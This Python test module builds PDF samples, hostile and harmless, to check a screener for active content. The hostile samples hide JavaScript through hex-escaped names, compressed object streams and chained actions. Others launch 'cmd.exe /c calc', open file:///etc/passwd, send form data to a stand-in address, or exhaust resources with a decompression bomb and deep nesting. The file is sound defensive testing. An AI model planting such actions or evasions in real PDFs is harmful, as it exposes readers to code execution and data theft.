"""PDF files that would do something when they are opened, read or clicked, and ordinary ones that link and jump."""

import zlib
from collections.abc import Callable
from functools import partial

from screener.words.draft import HiddenHow
from tests.doors.documents.pdf.plain import stream
from tests.hostile.hidden_answers import harmless
from tests.hostile.kinds import Kind
from tests.hostile.pdf_files import FONT, PAGE, TEXT, WORDS, packed, with_page, with_root

_GROUP = "PDF actions"
_FILE = "draft.pdf"
_CODE = "app.alert('hello')"
_SCRIPT = "/S /JavaScript /JS (app.alert\\('hello'\\))"


def _told(
    name: str, make: Callable[[], bytes], said: str, note: str, how: HiddenHow = HiddenHow.other, **answer: object
) -> Kind:
    return Kind(name, _GROUP, make, _FILE, shown=(WORDS,), alerts=(how,), said=(said,), notes=(note,), **answer)  # type: ignore[arg-type]


def _on_opening(action: str) -> Callable[[], bytes]:
    return partial(with_root, f"/OpenAction << {action} >>")


def _annotated(note: str, *more: bytes) -> Callable[[], bytes]:
    """A page with one annotation, object 6; `more` are objects from 7 on."""
    return partial(with_page, "/Annots [6 0 R]", f"<< /Type /Annot /Rect [10 10 90 30] {note} >>".encode(), *more)


def _packed_away() -> bytes:
    """The catalogue and its action stand in a compressed object stream, so that no byte of the file names them."""
    inside = [b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>", f"<< {_SCRIPT} >>".encode()]
    heads = b"1 0 6 %d " % (len(inside[0]) + 1)
    body = zlib.compress(heads + b" ".join(inside))
    pile = b"<< /Type /ObjStm /N 2 /First %d /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream" % (
        len(heads),
        len(body),
        body,
    )
    objects = {2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", 3: PAGE, 4: stream(TEXT), 5: FONT, 7: pile}
    out, rows = bytearray(b"%PDF-1.7\n"), {0: (0, 0, 0), 1: (2, 7, 0), 6: (2, 7, 1)}
    for number, said in objects.items():
        rows[number] = (1, len(out), 0)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, said)
    rows[8] = (1, len(out), 0)
    table = b"".join(
        bytes([kind]) + place.to_bytes(4, "big") + bytes([last]) for _, (kind, place, last) in sorted(rows.items())
    )
    head = b"<< /Type /XRef /Size 9 /W [1 4 1] /Root 1 0 R /Length %d >>" % len(table)
    return bytes(out) + b"8 0 obj\n%s\nstream\n%s\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % (
        head,
        table,
        len(out),
    )


def _chained(length: int) -> bytes:
    """Jumps that follow one another, with a script at their end."""
    jumps = [f"<< /S /GoTo /D [3 0 R /Fit] /Next {n} 0 R >>".encode() for n in range(7, 7 + length)]
    return with_root("/OpenAction 6 0 R", *jumps, f"<< {_SCRIPT} >>".encode())


_OPENED = (
    _told("JavaScript on opening", _on_opening(_SCRIPT), _CODE, r"JavaScript \(on opening the document\)"),
    _told(
        "JavaScript under a name spelt in numbers",
        _on_opening("/S /J#61vaScript /J#53 (app.alert\\('hello'\\))"),
        _CODE,
        "JavaScript",
    ),
    _told(
        "JavaScript in a compressed stream",
        partial(with_root, "/OpenAction << /S /JavaScript /JS 6 0 R >>", packed(_CODE.encode())),
        _CODE,
        "JavaScript",
    ),
    _told("JavaScript in a pile of compressed objects", _packed_away, _CODE, r"JavaScript \(on opening"),
    _told(
        "JavaScript in UTF-16",
        _on_opening("/S /JavaScript /JS <FEFF" + _CODE.encode("utf-16-be").hex() + ">"),
        _CODE,
        "JavaScript",
    ),
    _told(
        "JavaScript after a jump",
        _on_opening(f"/S /GoTo /D [3 0 R /Fit] /Next << {_SCRIPT} >>"),
        _CODE,
        r"JavaScript \(on opening",
    ),
    _told("JavaScript after 5,000 jumps", partial(_chained, 5_000), _CODE, "JavaScript", within_seconds=20),
    _told(
        "JavaScript in the tree of names",
        partial(with_root, f"/Names << /JavaScript << /Kids [<< /Names [(a) << {_SCRIPT} >>] >>] >> >>"),
        _CODE,
        r"JavaScript \(on opening",
    ),
    _told(
        "JavaScript on printing",
        partial(with_root, f"/AA << /WP << {_SCRIPT} >> >>"),
        _CODE,
        "closing, saving or printing",
    ),
    _told(
        "a program started on opening",
        _on_opening("/S /Launch /Win << /F (cmd.exe) /P (/c calc) >>"),
        "cmd.exe /c calc",
        r"starts a program or opens a file \(on opening",
    ),
    _told(
        "a web address opened on opening",
        _on_opening("/S /URI /URI (http://192.0.2.1/collect)"),
        "http://192.0.2.1/collect",
        r"opens something else by itself \(on opening",
    ),
    _told(
        "another file opened on opening",
        _on_opening("/S /GoToR /F (file:///etc/passwd) /D [0 /Fit]"),
        "file:///etc/passwd",
        "opens something else",
    ),
    _told(
        "a form sent away on opening",
        _on_opening("/S /SubmitForm /F << /FS /URL /F (http://192.0.2.1/) >>"),
        "http://192.0.2.1/",
        "sends or takes in data",
    ),
    _told(
        "layers switched on opening",
        _on_opening("/S /SetOCGState /State [/ON 6 0 R]"),
        "SetOCGState",
        "changes by itself what is shown",
    ),
)
_ON_PAGES = (
    _told(
        "JavaScript on turning to the page",
        partial(with_page, f"/AA << /O << {_SCRIPT} >> >>"),
        _CODE,
        "turning to page 1",
    ),
    _told(
        "JavaScript behind a link",
        _annotated(f"/Subtype /Link /A << {_SCRIPT} >>"),
        _CODE,
        "on page 1, in a note, link",
    ),
    _told(
        "JavaScript in the address of a link",
        _annotated("/Subtype /Link /A << /S /URI /URI (javascript:alert\\(1\\)) >>"),
        "javascript:alert(1)",
        "JavaScript",
    ),
    _told(
        "a program started by a link",
        _annotated("/Subtype /Link /A << /S /Launch /F (tool.exe) >>"),
        "tool.exe",
        "starts a program",
    ),
    _told(
        "JavaScript on seeing a note",
        _annotated(f"/Subtype /Square /AA << /PV << {_SCRIPT} >> >>"),
        _CODE,
        "JavaScript",
    ),
    _told(
        "JavaScript in a field that stands on no page",
        partial(with_root, f"/AcroForm << /Fields [<< /FT /Tx /T (a) /AA << /C << {_SCRIPT} >> >> >>] >>"),
        _CODE,
        "in a field of the form",
    ),
    _told(
        "a button that sends the form away",
        _annotated(
            "/Subtype /Widget /FT /Btn /Ff 65536 /T (b) /A << /S /SubmitForm /F << /F (http://192.0.2.1/) >> >>"
        ),
        "http://192.0.2.1/",
        "sends or takes in data",
    ),
    _told(
        "JavaScript in a bookmark",
        partial(
            with_root,
            "/Outlines 6 0 R",
            b"<< /Type /Outlines /First 7 0 R /Last 7 0 R >>",
            f"<< /Title (A) /Parent 6 0 R /A << {_SCRIPT} >> >>".encode(),
        ),
        _CODE,
        "in a bookmark",
    ),
    _told(
        "a file attached to a page",
        _annotated(
            "/Subtype /FileAttachment /FS << /Type /Filespec /F (other.exe) /EF << /F 7 0 R >> >>", stream("MZ")
        ),
        "other.exe",
        r"a file attached to a page \(on page 1\)",
        HiddenHow.attachment,
    ),
    _told(
        "a dynamic form",
        partial(with_root, "/AcroForm << /XFA 6 0 R /Fields [] >>", stream("<xdp:xdp/>")),
        "in place of the pages",
        "a dynamic form",
    ),
)
_AWKWARD = (
    _told(
        "an action that follows itself",
        partial(with_root, "/OpenAction 6 0 R", f"<< {_SCRIPT} /Next 6 0 R >>".encode()),
        _CODE,
        "JavaScript",
        within_seconds=15,
    ),
    _told(
        "actions that follow each other in pairs",
        partial(with_root, "/OpenAction 6 0 R", f"<< {_SCRIPT} /Next [6 0 R 6 0 R] >>".encode()),
        _CODE,
        "JavaScript",
        within_seconds=15,
    ),
    _told(
        "a script of 50 MB in a few bytes",
        partial(with_root, "/OpenAction << /S /JavaScript /JS 6 0 R >>", packed(b"x" * 50_000_000)),
        "xxxx",
        "JavaScript",
        within_seconds=15,
    ),
    _told(
        "20,000 links with scripts",
        lambda: with_page(
            f"/Annots [{' '.join(f'{n} 0 R' for n in range(6, 20_006))}]",
            *(
                f"<< /Subtype /Link /Rect [0 0 9 9] /A << /S /JavaScript /JS (x{n}) >> >>".encode()
                for n in range(20_000)
            ),
        ),
        "x1",
        "more scripts, actions or notes than are looked at",
    ),
    Kind(
        "dictionaries within one another, 30,000 deep",
        _GROUP,
        partial(with_root, f"/AA {'<< /O ' * 30_000}{'>>' * 30_000}"),
        _FILE,
        either=True,
    ),
)
_HARMLESS = (
    harmless(
        _GROUP,
        "an ordinary link",
        _FILE,
        _annotated("/Subtype /Link /A << /S /URI /URI (http://192.0.2.1/paper) >>"),
        WORDS,
    ),
    harmless(
        _GROUP, "a link within the paper", _FILE, _annotated("/Subtype /Link /A << /S /GoTo /D [3 0 R /Fit] >>"), WORDS
    ),
    harmless(
        _GROUP,
        "a link to another paper",
        _FILE,
        _annotated("/Subtype /Link /A << /S /GoToR /F (supplement.pdf) /D [0 /Fit] >>"),
        WORDS,
    ),
    harmless(_GROUP, "a first view of the page", _FILE, partial(with_root, "/OpenAction [3 0 R /FitH null]"), WORDS),
    harmless(_GROUP, "a first view as an action", _FILE, _on_opening("/S /GoTo /D [3 0 R /XYZ null null 1]"), WORDS),
    harmless(_GROUP, "a presentation", _FILE, _on_opening("/S /Named /N /NextPage"), WORDS),
    harmless(
        _GROUP,
        "a form with a text field",
        _FILE,
        partial(
            with_page,
            "/Annots [6 0 R]",
            b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /Rect [10 10 90 30] >>",
        ),
        WORDS,
    ),
    Kind(
        "a film in a paper",
        _GROUP,
        _annotated("/Subtype /Screen /T (Film 1) /A << /S /Rendition /OP 0 >>"),
        _FILE,
        shown=(WORDS,),
        notes=("sound, film or another live object",),
        ordinary=True,
    ),
    harmless(
        _GROUP,
        "a paper that speaks of scripts",
        _FILE,
        lambda: with_page("", content=TEXT.replace("brown fox jumps over the lazy dog", "/JavaScript /JS /Launch")),
        "/JavaScript /JS /Launch",
    ),
)
KINDS: tuple[Kind, ...] = _OPENED + _ON_PAGES + _AWKWARD + _HARMLESS
